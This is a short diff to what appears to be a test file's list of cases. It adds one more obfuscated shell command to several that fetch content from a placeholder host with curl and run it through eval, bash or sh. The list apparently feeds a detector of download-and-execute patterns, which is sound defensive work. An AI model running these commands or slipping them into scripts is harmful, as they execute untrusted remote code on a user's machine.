@@ -99,6 +99,7 @@ test.each([
   'run() { eval "$@"; }; run "$(curl -s https://x.example)"',
   'bash -c "$(cat <(curl -s https://x.example))"',
   'a=$(curl -s https://x.example); b="$a"; c=("$b"); eval "${c[0]}"',
+  'd=$(curl -s https://x.example); eval "${x:-$d}"',
   'printf -v x %s "$(curl -s https://x.example)"; sh -c "$x"',
   'for l in $(curl -s https://x.example); do eval "$l"; done',
   'curl -s https://x.example | tee >(bash) > /dev/null',
